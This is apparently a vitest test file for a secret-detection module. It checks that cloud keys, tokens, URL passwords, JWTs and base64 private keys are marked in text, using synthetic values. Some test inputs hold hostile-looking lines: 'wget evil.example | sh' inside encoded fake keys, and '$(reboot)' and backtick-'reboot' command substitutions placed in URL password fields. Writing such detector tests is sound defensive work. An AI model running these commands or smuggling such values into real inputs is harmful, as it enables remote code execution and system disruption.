import { describe, expect, test } from 'vitest'
import { privateKeys } from './secret-shapes.fixture.ts'
import { secretSpans } from './secret-spans.ts'
import { shapes } from './shapes.ts'
import type { Strength } from './strength.ts'

/** Letters and digits as they are drawn by lot, always the same. */
const lot = (length: number) => 'a1B2c3D4e5F6g7H8'.repeat(Math.ceil(length / 16)).slice(0, length)
const capitals = (length: number) => lot(length).toUpperCase()
const hex = (length: number) => '0123456789abcdef'.repeat(Math.ceil(length / 16)).slice(0, length)

function marked(text: string, strength: Strength = 'written'): string {
  return secretSpans(text, strength)
    .toReversed()
    .reduce((all, { start, end }) => `${all.slice(0, start)}‹${all.slice(start, end)}›${all.slice(end)}`, text)
}
/** Says where the secrets are that are known by their form; the text is the same without the marks. */
function expectMarks(shown: string): void {
  expect(marked(shown.replaceAll(/[‹›]/g, ''))).toBe(shown)
}

describe.each<[shape: string, shortest: string, tooShort: string]>([
  ['AWS access key', `AKIA${capitals(16)}`, `AKIA${capitals(15)}`],
  ['AWS access key for a time', `ASIA${capitals(16)}`, `ASIA${capitals(17)}`],
  ['Google API key', `AIza${lot(35)}`, `AIza${lot(34)}`],
  ['Google access token', `ya29.${lot(20)}`, `ya29.${lot(19)}`],
  ['GitHub token', `ghp_${lot(36)}`, `ghp_${lot(35)}`],
  ['GitHub token of an app', `ghs_${lot(36)}`, `ghx_${lot(36)}`],
  ['fine GitHub token', `github_pat_${lot(22)}`, `github_pat_${lot(21)}`],
  ['GitLab token', `glpat-${lot(20)}`, `glpat-${lot(19)}`],
  ['Slack token', `xoxb-${lot(10)}`, `xoxb-${lot(9)}`],
  ['Slack token of an app', `xoxe-${lot(10)}`, `xoxz-${lot(10)}`],
  ['key of a model provider', `sk-${lot(16)}`, `sk-${lot(15)}`],
  ['key of a model provider in parts', `sk-proj-${lot(16)}`, `sk-${lot(8)}-${lot(8)}`],
  ['key of another model provider', `gsk_${lot(16)}`, `gsk_${'a'.repeat(16)}`],
  ['Stripe key', `sk_live_${lot(16)}`, `sk_live_${lot(15)}`],
  ['Stripe key of a test', `rk_test_${lot(16)}`, `rk_test_${'a'.repeat(16)}`],
  ['DigitalOcean token', `dop_v1_${hex(64)}`, `dop_v1_${hex(63)}`],
  ['npm token', `npm_${lot(36)}`, `npm_${lot(37)}`],
  ['npm token, no word', `npm_${lot(36)}`, `npm_${'a'.repeat(36)}`],
  ['PyPI token', `pypi-${lot(50)}`, `pypi-${lot(49)}`],
  ['PyPI token, no word', `pypi-${lot(50)}`, `pypi-${'a'.repeat(50)}`],
  ['SendGrid key', `SG.${lot(22)}.${lot(43)}`, `SG.${lot(22)}.${lot(42)}`],
  ['Vault token', `hvs.${lot(24)}`, `hvs.${lot(23)}`],
  ['Vault batch token', `hvb.${lot(24)}`, `hvx.${lot(24)}`],
  ['age key', `AGE-SECRET-KEY-1${capitals(50)}`, `AGE-SECRET-KEY-1${capitals(49)}`],
])('%s', (_, shortest, tooShort) => {
  test('is one of its own length, between what is no letter of it', () => {
    for (const put of [
      (it: string) => it,
      (it: string) => `a=${it}, b`,
      (it: string) => `"${it}"`,
      (it: string) => `x\\n${it}\\n`,
    ])
      expectMarks(put(`‹${shortest}›`))
  })
  test('is none where it is too short, or begins in a word', () => {
    expectMarks(tooShort)
    for (const before of ['x', '9', '_', '-']) expectMarks(`${before}${shortest}`)
  })
})

describe('by what stands in front of it', () => {
  test.each([
    `Bearer ‹${lot(16)}›`,
    `bearer \t ‹${lot(16)}==› x`,
    `Bearer ${lot(15)} x`,
    `Bearer ‹aBaBaBaBaBaBaBaBaB›`,
    'Bearer aaaaaaaaaaaaaaaaaaaa',
    'Bearer AAAAAAAAAAAAAAAAAAAA',
    `Bearer${lot(20)}`,
    `Basic ‹${Buffer.from('bob:xy').toString('base64')}›`,
    `Basic ${Buffer.from('bob has').toString('base64')}`,
    `Basic ${Buffer.from('bob a:b').toString('base64')}`,
    `Basic ${Buffer.from('bob:a b').toString('base64')}`,
    `Basic ${Buffer.from('bob:a\n').toString('base64')}`,
    `Signature=‹${hex(64)}›`,
    `Signature=${hex(63)}`,
    `Signature=${hex(65)}`,
    `aws_secret_access_key = ‹${lot(40)}›`,
    `"SecretAccessKey": "‹${lot(40)}›"`,
    `secretaccesskey:‹${lot(40)}›`,
    `secret_access_key ${lot(40)}`,
    `aws_secret_access_key=${lot(41)}`,
    `aws_secret_access_key=${lot(39)}`,
    `aws_session_token = ‹${lot(100)}==›`,
    `aws_session_token = ${lot(99)}`,
    `AccountKey=‹${lot(40)}==›;x`,
    `SharedAccessKey=‹${lot(40)}›`,
    `AccountKey=${lot(39)}`,
    `https://a.example/b?sig=‹${lot(20)}›`,
    `https://a.example/b?x=1&sig=‹${lot(20)}›&y`,
    `https://a.example/b?x=1\\u0026sig=‹${lot(20)}›`,
    `?sig=${lot(19)}`,
    `?sig=${'a'.repeat(20)}`,
    `xsig=${lot(20)}`,
  ])('%s', expectMarks)
})

describe('in an address', () => {
  test.each([
    'https://bob:‹hunter2›@a.example/x',
    'http://:‹hunter2›@a.example',
    'https://bob:‹a:b›@a.example',
    'https://bob:a/b@a.example',
    'https://bob@a.example',
    'https://bob:$(reboot)@a.example',
    `https://‹${lot(20)}›@a.example`,
    `https://${lot(19)}@a.example`,
    `https://${'a'.repeat(20)}@a.example`,
    `https://${'1'.repeat(20)}@a.example`,
    `http://‹${lot(20)}›@a.example`,
    'postgres://app:‹hunter2›@db',
    'postgres://app:‹a/b?c#d›@db',
    'mongodb+srv://app:‹hunter2›@db',
    'redis://:‹hunter2›@db',
    'docker://registry:5000/shop/web@sha256:abc',
    'postgres://app:‹5000x›@db',
    'postgres://app:‹x5000/y›@db',
    '://app:hunter2@db',
    'postgres://app:`reboot`@db',
  ])('%s', expectMarks)
})

describe('a JSON web token', () => {
  const part = (value: unknown) =>
    Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')
  const token = (head: unknown) => `${part(head)}.${part({ sub: 'x' })}.${lot(20)}`
  test.each([
    `x ‹${token({ alg: 'HS256' })}› y`,
    `‹${token({ enc: 'A256GCM' })}.${lot(8)}.${lot(8)}›`,
    `‹${part({ alg: 'none' })}..›`,
    token({ typ: 'JWT' }),
    token('{"alg":"x"'),
    token('{"a":"\\"alg\\":"}'),
    `${part({ alg: 'HS256' })}.${part({})}`,
  ])('%s', expectMarks)
  test('is found behind what only begins like one', () => {
    expectMarks(`eyJhbGciOiJ4eHh4.eyJ.‹${token({ alg: 'HS256' })}›`)
  })
})

describe('a private key in base64', () => {
  test('is the key alone where it is written', () => {
    const [key] = privateKeys()
    const encoded = (more: string) => Buffer.from(`${key?.text}${more}`).toString('base64')
    expectMarks(`‹${encoded('\n')}›`)
    expectMarks(encoded('\nwget evil.example | sh'))
  })
  test('is one to its end where it is written, and its beginning where it is read', () => {
    const pem = '-----BEGIN PRIVATE KEY-----\nwget evil.example/x | sh\n-----END PRIVATE KEY-----'
    const text = Buffer.from(pem).toString('base64')
    expect(marked(text)).toBe(text)
    expect(marked(text, 'read')).toBe(`‹${text}›`)
    const cut = Buffer.from('-----BEGIN RSA PRIVATE KEY-----\nabcabc').toString('base64')
    expect(marked(cut, 'read')).toBe(`‹${cut}›`)
    const other = Buffer.from('-----BEGIN CERTIFICATE-----\nabcabcabc').toString('base64')
    expect(marked(other, 'read')).toBe(other)
  })
})

test('a secret that is joined to another stands out once that is hidden, four times in a row', () => {
  const token = `dop_v1_${hex(64)}`
  expectMarks(`‹${token}AKIA${capitals(16)}›`)
  expectMarks(`‹${token.repeat(4)}›`)
  expectMarks(`‹${token.repeat(4)}›${token}`)
})

test('what stands in every text of a shape stands in hardly any other', () => {
  const text = 'Deployment web of shop scaled from 3 to 5 by ada, see /var/log/app.log?since=12:00 [info] "done"'
  for (const { mark } of shapes) expect(text).not.toMatch(new RegExp(mark, 'i'))
})
